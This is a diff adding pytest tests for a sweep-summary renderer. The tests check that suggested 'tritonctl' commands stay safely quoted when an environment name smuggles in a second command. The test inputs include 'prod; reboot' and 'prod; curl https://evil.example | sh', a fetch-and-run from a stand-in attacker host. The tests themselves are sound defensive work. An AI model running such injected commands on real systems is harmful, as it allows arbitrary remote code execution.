@@ -1,7 +1,10 @@
 # The summary: goal tied to outcome, the gain beside the base, in Markdown in which nothing that people wrote is markup.
 from __future__ import annotations
 
+import re
 from dataclasses import replace
+
+import pytest
 
 from controlplane.domain.canonical import JsonObject
 from controlplane.domain.sweep_compare import compared
@@ -91,6 +94,27 @@ def test_without_an_answer_it_says_so_and_what_to_do() -> None:
     assert "The bench did not come up." in text
     assert "    tritonctl sweep resume 12\n" in text
     assert "tritonctl sweep watch 12" in markdown(Findings(synthetic.queued()))
+
+
+def test_a_command_can_be_pasted_whatever_the_environment_is_called(rising: Findings) -> None:
+    sweep = replace(rising.material.sweep, environment="prod; reboot")
+    propose, _ = Summary(Findings(replace(rising.material, sweep=sweep))).next_commands
+    assert rising.chosen is not None
+    assert propose == f"tritonctl sweep propose {rising.chosen.name} --env 'prod; reboot'"
+
+
+@pytest.mark.parametrize("state", list(SweepState))
+def test_of_a_capsule_no_command_is_of_the_sweep_that_has_its_number_here(rising: Findings, state: SweepState) -> None:
+    sweep = replace(rising.material.sweep, environment="prod; curl https://evil.example | sh", state=state)
+    answer = sweep.answer if state is SweepState.FINISHED else None
+    stranger = replace(rising.material, sweep=replace(sweep, answer=answer), capsule="there/my sweep.capsule")
+
+    text = markdown(Findings(stranger))
+
+    assert Summary(Findings(stranger)).next_commands == ("tritonctl sweep replay 'there/my sweep.capsule'",)
+    assert "where this capsule is from" in text
+    assert "evil" not in text
+    assert re.findall("tritonctl .*", text) == ["tritonctl sweep replay 'there/my sweep.capsule'"]
 
 
 def test_a_replay_says_what_agrees_and_chooses_nothing(rising: Findings) -> None:
